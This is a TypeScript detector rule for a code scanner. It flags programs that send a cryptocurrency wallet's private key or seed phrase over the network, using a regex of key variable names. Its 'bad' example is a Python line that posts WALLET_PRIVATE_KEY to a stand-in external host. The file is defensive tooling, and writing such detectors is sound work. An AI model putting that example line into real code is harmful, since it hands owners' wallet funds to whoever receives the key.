import type { BundleDetector, BundlePlace, ScannedBundle } from '../../detector.ts';
import { staysLocal } from '../../helpers/sending/destinations.ts';

export const sendsWalletKey: BundleDetector = {
  id: 'sends-wallet-key',
  severity: 'high',
  consequence: 'advise',
  summary: 'A program sends the key or the seed phrase of a wallet.',
  explanation:
    'A wallet signs on the machine of its owner, and only the signature is sent. Its key in a request is all of its money in ' +
    'another’s hands, for good. The key is followed from the variable that is named for it to the request. What is made with it, such as ' +
    'signatures, addresses and hashes, is left out, and so is what stays on this machine. Sign here.',
  examples: {
    bad: {
      path: 'trade.py',
      text: 'import os, requests\nrequests.post("https://lampkeeper.example/in", json={"key": os.environ["WALLET_PRIVATE_KEY"]})\n',
    },
    good: {
      path: 'trade.py',
      text: 'import os, requests\ns = sign(tx, os.environ["WALLET_PRIVATE_KEY"])\nrequests.post("https://lampkeeper.example/in", json={"tx": s})\n',
    },
  },
  inspectBundle: sendings,
};

function* sendings({ effects: { effects } }: ScannedBundle): Generator<BundlePlace> {
  for (const effect of effects) {
    if (effect.does !== 'send' || staysLocal(effect.to)) continue;
    const isKey = effect.what.sources.some(
      ({ origin, name, isPart }) => origin === 'secret' && !isPart && keys.test(name),
    );
    if (isKey) yield { ...effect.at, message: 'The program sends the key of a wallet over the network.' };
  }
}

const keys =
  /(?:^|_)(?:MNEMONIC|SEED_PHRASE|(?:WALLET|ETH|ETHEREUM|EVM|SOL|SOLANA|TRON|BTC|BITCOIN|POLYGON|BSC|BASE)_(?:PRIVATE|SECRET)_?KEY)$/i;
